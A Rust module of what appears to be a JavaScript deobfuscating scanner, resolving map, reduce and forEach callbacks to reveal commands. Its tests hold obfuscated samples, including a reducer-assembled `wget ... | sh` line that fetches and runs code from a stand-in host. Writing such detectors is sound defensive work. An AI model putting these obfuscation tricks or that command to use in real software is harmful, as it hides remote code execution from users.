//! `array.map((c, i) => …)` over a known array: the callback's body is evaluated once per item with its
//! parameters bound to the item and its index, so a string decoded character by character
//! (`D.map((c, i) => String.fromCharCode(c ^ K.charCodeAt(i % K.length))).join('')`, an XOR with a
//! repeated key) is known where it is used. Only a callback whose parameters are plain names and whose
//! body is one expression (or `{ return <expression>; }`) is followed; the array is bounded by
//! `MAX_LIST_ITEMS` and every evaluation takes a step of the segment's budget.
//!
//! `array.reduce((acc, c) => acc + c, '')` folds the same way: a command kept as pieces and joined by a
//! reducer is known where it is used.
//!
//! `array.forEach(([k, v]) => handlers[k](v))` over a known array runs its callback's body once per item,
//! as `for (const [k, v] of array)` does: the body is walked with the parameters bound (a destructuring
//! pattern too), at most `MAX_LOOP_ITEMS` items.

use super::super::limits::MAX_LOOP_ITEMS;
use super::values::Value;
use super::Walker;
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use tree_sitter::Node;

impl<'t> Walker<'t, '_> {
    /// `known.forEach(callback)` (or `map`, `filter`, `some`, `every` for what the callback does): the
    /// callback's body walked once per item, its first parameter bound to the item (a pattern is
    /// destructured) and its second to the index.
    pub(super) fn walk_each(&mut self, call: Node<'t>, depth: usize) {
        let Some(function) = call
            .field_child("function")
            .filter(|f| f.kind() == "member_expression")
        else {
            return;
        };
        let (Some(object), Some(property)) = (
            function.field_child("object"),
            function.field_child("property"),
        ) else {
            return;
        };
        if !matches!(
            self.src(property),
            "forEach" | "map" | "filter" | "some" | "every"
        ) {
            return;
        }
        let Some(callback) = call
            .field_child("arguments")
            .and_then(|a| a.named_child(0))
            .filter(|c| matches!(c.kind(), "arrow_function" | "function_expression"))
        else {
            return;
        };
        let Some(items) = self
            .eval(object, 0)
            .and_then(|v| v.items())
            .filter(|items| !items.is_empty() && items.len() <= MAX_LOOP_ITEMS)
        else {
            return;
        };
        let parameters: Vec<Node<'t>> = match callback.field_child("parameter") {
            Some(single) => vec![single],
            None => match callback.field_child("parameters") {
                Some(list) => named_children(list),
                None => return,
            },
        };
        let Some(body) = callback.field_child("body") else {
            return;
        };
        for (index, item) in items.into_iter().enumerate() {
            self.env.push();
            if let Some(first) = parameters.first() {
                self.bind(*first, Some(item), None);
            }
            if let Some(second) = parameters.get(1) {
                self.bind(*second, i64::try_from(index).ok().map(Value::Int), None);
            }
            self.walk(body, depth + 1);
            self.env.pop();
        }
    }

    /// The mapped array, when `callback` is a plain callback over the known `items`.
    pub(super) fn map_items(
        &mut self,
        items: &[Value],
        callback: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        if !matches!(
            callback.kind_name(),
            "arrow_function" | "function_expression"
        ) {
            return None;
        }
        let names = self.callback_parameters(callback)?;
        let expression = single_expression(callback.field_child("body")?)?;
        self.env.push();
        let mut out = Vec::with_capacity(items.len());
        for (index, item) in items.iter().enumerate() {
            if let Some(name) = names.first() {
                self.env.set(name, Some(item.clone()));
            }
            if let Some(name) = names.get(1) {
                self.env
                    .set(name, i64::try_from(index).ok().map(Value::Int));
            }
            match self.eval(expression, depth + 1) {
                Some(value) => out.push(value),
                None => break,
            }
        }
        self.env.pop();
        (out.len() == items.len())
            .then(|| Value::list(out))
            .flatten()
    }

    /// The folded value, when `callback` is a plain two-parameter reducer over the known `items` (from
    /// `initial`, or from the first item as JavaScript does without one).
    pub(super) fn reduce_items(
        &mut self,
        items: &[Value],
        callback: Node<'t>,
        initial: Option<Value>,
        depth: usize,
    ) -> Option<Value> {
        if !matches!(
            callback.kind_name(),
            "arrow_function" | "function_expression"
        ) {
            return None;
        }
        let names = self.callback_parameters(callback)?;
        let [accumulator, item_name] = names.as_slice() else {
            return None;
        };
        let expression = single_expression(callback.field_child("body")?)?;
        let (mut folded, rest) = match initial {
            Some(value) => (value, items),
            None => (items.first()?.clone(), items.get(1..)?),
        };
        self.env.push();
        for item in rest {
            self.env.set(accumulator, Some(folded));
            self.env.set(item_name, Some(item.clone()));
            let Some(value) = self.eval(expression, depth + 1) else {
                self.env.pop();
                return None;
            };
            folded = value;
        }
        self.env.pop();
        Some(folded)
    }

    /// The names of a callback's first two parameters (`c => …`, `(c, i) => …`, `function (c) {…}`).
    fn callback_parameters(&self, callback: Node<'t>) -> Option<Vec<&'t str>> {
        if let Some(single) = callback.field_child("parameter") {
            return (single.kind_name() == "identifier").then(|| vec![self.src(single)]);
        }
        let params = callback.field_child("parameters")?;
        let list = named_children(params);
        if list.len() > 2 || list.iter().any(|p| p.kind_name() != "identifier") {
            return None;
        }
        Some(list.into_iter().map(|p| self.src(p)).collect())
    }
}

/// A callback body's one expression: an arrow's expression, or `{ return <expression>; }`.
fn single_expression(body: Node) -> Option<Node> {
    if body.kind_name() != "statement_block" {
        return Some(body);
    }
    let statements = named_children(body);
    let [statement] = statements.as_slice() else {
        return None;
    };
    (statement.kind_name() == "return_statement")
        .then(|| statement.named_child(0))
        .flatten()
}

fn named_children(node: Node) -> Vec<Node> {
    let mut cursor = node.walk();
    node.named_children(&mut cursor).collect()
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn a_string_xored_with_a_repeated_key_is_known_at_the_call() {
        // "id > /tmp/o" XOR "qz"
        let found = javascript(concat!(
            "const cp = require('child_process');\n",
            "const K = 'qz';\n",
            "const D = [24, 30, 81, 68, 81, 85, 5, 23, 1, 85, 30];\n",
            "const s = D.map((c, i) => String.fromCharCode(c ^ K.charCodeAt(i % K.length))).join('');\n",
            "cp.exec(s);\n",
        ));
        assert!(
            found.iter().any(|r| r.contains("\"id > /tmp/o\"")),
            "{found:?}"
        );
    }

    #[test]
    fn a_command_folded_from_pieces_by_a_reducer_is_known_at_the_call() {
        let found = javascript(concat!(
            "const cp = require('child_process');\n",
            "const line = ['wget -q', 'O- http://', '198.51.100.3', '/r | sh'].reduce((a, b) => a + b, '');\n",
            "const again = ['id', ' -u'].reduce(function (a, b) { return a + b; });\n",
            "cp.exec(line);\n",
            "cp.exec(again);\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("\"wget -qO- http://198.51.100.3/r | sh\"")),
            "{found:?}"
        );
        assert!(found.iter().any(|r| r.contains("\"id -u\"")), "{found:?}");
    }

    #[test]
    fn callbacks_with_patterns_statements_or_unknown_items_stay_unknown() {
        for text in [
            "const cp = require('child_process');\nconst s = [105, 100].map(({ c }) => String.fromCharCode(c)).join('');\ncp.exec(s);\n",
            "const cp = require('child_process');\nconst s = [105, 100].map((c) => { log(c); return String.fromCharCode(c); }).join('');\ncp.exec(s);\n",
            "const cp = require('child_process');\nconst s = load().map((c) => String.fromCharCode(c)).join('');\ncp.exec(s);\n",
            "const cp = require('child_process');\nconst s = ['i', 'd'].reduce((a, b) => a + b + load(), '');\ncp.exec(s);\n",
        ] {
            let found = javascript(text);
            assert!(!found.iter().any(|r| r.contains("\"id\"")), "{text}: {found:?}");
        }
    }
}
